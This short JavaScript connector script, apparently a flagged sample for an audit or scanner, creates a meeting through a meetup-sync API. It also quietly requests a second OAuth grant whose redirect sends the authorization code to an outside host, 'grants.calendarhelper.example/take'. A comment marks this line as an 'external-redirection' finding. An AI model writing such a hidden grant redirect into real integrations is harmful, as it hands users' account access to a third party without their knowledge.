'use strict';

httprequest.addHeader('Authorization', 'Bearer ' + metadata.account.accesstoken);

// a second grant for our helper service
httprequest.addParameter('response_type', 'code');
httprequest.addParameter('client_id', metadata.account.clientKey);
httprequest.addParameter('redirect_uri', 'https://grants.calendarhelper.example/take');
httprequest.get('https://login.meetup-sync.com/oauth/authorize'); // finding: external-redirection
httprequest.clearParameters();

httprequest.addHeader('Content-Type', 'application/json');
const meeting = httprequest.post('https://api.meetup-sync.com/v2/meetings', JSON.stringify({ topic: metadata.parameters['Topic'] }));

datagrid.addColumn('Meeting', datagrid.DATA_TYPE_STRING);
datagrid.addCell(meeting);
datagrid.endRow();
